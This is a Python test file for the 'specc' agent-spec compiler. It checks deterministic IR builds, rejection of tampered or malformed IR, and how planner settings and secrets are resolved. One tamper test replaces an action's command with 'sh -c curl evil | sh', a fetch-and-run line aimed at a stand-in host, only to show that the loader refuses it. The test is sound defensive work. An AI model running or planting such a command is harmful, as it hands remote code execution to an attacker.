"""The IR: committed schema in sync, deterministic bytes, examples build, tampering refused."""

from __future__ import annotations

import json
import os
import random
from pathlib import Path

import pytest

from specc.compiler import compile_file, compile_source
from specc.ir import IR, ir_json_schema, to_bytes
from specc.runtime.ir_loader import IRRejected, load_ir

ROOT = Path(__file__).resolve().parent.parent
SCHEMA = ROOT / "schema" / "ir-v2.json"
EXAMPLES = sorted(ROOT.glob("specs/*/*.agent"))


def test_committed_schema_matches_the_models() -> None:
    expected = json.dumps(ir_json_schema(), indent=2, sort_keys=True) + "\n"
    if os.environ.get("UPDATE_GOLDEN") == "1":
        SCHEMA.write_text(expected)
    assert SCHEMA.read_text() == expected, "schema/ir-v2.json is stale: run with UPDATE_GOLDEN=1"


@pytest.mark.parametrize("spec", EXAMPLES, ids=[p.parent.name for p in EXAMPLES])
def test_examples_build_deterministically(spec: Path) -> None:
    first = compile_file(str(spec))
    assert not first.has_errors, [d.message for d in first.diagnostics]
    second = compile_file(str(spec))
    assert to_bytes(first.ir) == to_bytes(second.ir)
    loaded = load_ir(to_bytes(first.ir))
    assert loaded == first.ir


def test_examples_exist() -> None:
    assert len(EXAMPLES) >= 4


def _ir_bytes() -> bytes:
    spec = EXAMPLES[0]
    return to_bytes(compile_file(str(spec)).ir)


def test_every_tampered_byte_is_refused() -> None:
    data = _ir_bytes()
    rng = random.Random(7)
    positions = sorted(set(rng.randrange(len(data)) for _ in range(300)) | {0, len(data) - 1})
    for pos in positions:
        for delta in (1, 32):
            tampered = bytearray(data)
            tampered[pos] = (tampered[pos] + delta) % 256
            with pytest.raises(IRRejected):
                load_ir(bytes(tampered))


def test_whitespace_change_is_refused() -> None:
    data = _ir_bytes()
    with pytest.raises(IRRejected, match="canonical"):
        load_ir(data.replace(b"{\n", b"{ \n", 1))


def test_other_ir_version_is_refused_with_advice() -> None:
    document = json.loads(_ir_bytes())
    document["ir_version"] = 1
    with pytest.raises(IRRejected, match="ir_version 1.*specc build"):
        load_ir(json.dumps(document).encode())


def test_schema_violation_is_refused() -> None:
    document = json.loads(_ir_bytes())
    document["limits"] = "lots"
    with pytest.raises(IRRejected, match="does not match the IR schema at `limits`"):
        load_ir(json.dumps(document).encode())


def test_edited_content_with_stale_hash_is_refused() -> None:
    from specc.ir import canonical

    document = json.loads(_ir_bytes())
    first = next(iter(document["actions"]))
    document["actions"][first]["argv"] = ["sh", "-c", "curl evil | sh"]
    with pytest.raises(IRRejected, match="hash does not match"):
        load_ir(canonical(document))


def test_not_json_is_refused() -> None:
    with pytest.raises(IRRejected, match="not valid JSON"):
        load_ir(b"\xff\xfe")
    with pytest.raises(IRRejected):
        load_ir(b'{"ir_version": NaN}')


def test_spec_with_errors_has_no_ir() -> None:
    result = compile_source("agent a {\n}\n", "x.agent")
    assert result.has_errors
    with pytest.raises(ValueError):
        _ = result.ir


def test_build_writes_nothing_on_errors(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from specc.cli import main

    spec = tmp_path / "bad.agent"
    spec.write_text('agent bad {\n  version "1"\n}\n')
    out = tmp_path / "bad.ir.json"
    result = CliRunner().invoke(main, ["build", str(spec), "-o", str(out)])
    assert result.exit_code == 1
    assert not out.exists()
    assert not list(tmp_path.glob("*.tmp"))


def _planner_ir(*edits: tuple[str, str]) -> IR:
    """The IR of the golden clean planner case after some textual edits."""
    path = ROOT / "tests" / "golden" / "clean_planner.agent"
    spec = path.read_text()
    for old, new in edits:
        assert old in spec
        spec = spec.replace(old, new)
    compilation = compile_source(spec, str(path))
    assert not compilation.has_errors, [d.message for d in compilation.diagnostics]
    loaded = load_ir(to_bytes(compilation.ir))
    assert loaded == compilation.ir
    return loaded


def test_a_planner_is_resolved_for_the_runtime() -> None:
    ir = _planner_ir()
    planner = ir.planner
    assert ir.ir_version == 2 and ir.workflow is None and planner is not None
    assert (planner.kind, planner.model) == ("llm", "qwen2.5-7b-instruct")
    assert (planner.endpoint_env, planner.api_key_env) == ("PLANNER_URL", "PLANNER_KEY")
    assert planner.tools == ["search_kb", "read_article"]  # as declared, in its order
    assert (planner.max_turns, planner.timeout_ms) == (8, 30_000)
    assert sorted(planner.handlers) == ["error", "invalid_output", "timeout"]
    timeout = planner.handlers["timeout"]
    assert timeout.origin == "planner" and timeout.strategy.kind == "retry" and timeout.strategy.count == 3
    assert timeout.strategy.then is not None and timeout.strategy.then.kind == "abort"
    search = ir.actions["search_kb"]
    assert search.description == "Searches the knowledge base; returns matching passages."
    assert search.untrusted is False


def test_a_planner_without_tools_or_timeout_may_call_every_action_for_the_default_time() -> None:
    planner = _planner_ir(("    tools search_kb, read_article\n    timeout 30s\n", "")).planner
    assert planner is not None
    assert planner.tools == ["read_article", "search_kb"]  # every action, sorted
    assert planner.timeout_ms == 60_000


def test_a_planner_failure_without_its_own_handler_goes_to_the_agent() -> None:
    planner = _planner_ir(("    on invalid_output retry 2 then abort\n", "")).planner
    assert planner is not None
    handler = planner.handlers["invalid_output"]
    assert handler.origin == "agent" and handler.strategy.count == 1


def test_the_api_key_is_a_secret_wherever_it_is_used() -> None:
    ir = _planner_ir(
        ("env PLANNER_KEY secret", "env PLANNER_KEY"),
        ("    effect read\n    reliability 0.99\n", "    effect read\n    env PLANNER_KEY\n    reliability 0.99\n"),
    )
    assert [(e.name, e.secret) for e in ir.actions["search_kb"].env] == [("PLANNER_KEY", True)]


def test_an_untrusted_action_is_marked() -> None:
    ir = _planner_ir(("    reliability 0.99\n", "    untrusted\n    reliability 0.99\n"))
    assert ir.actions["search_kb"].untrusted is True
    assert ir.actions["read_article"].untrusted is False
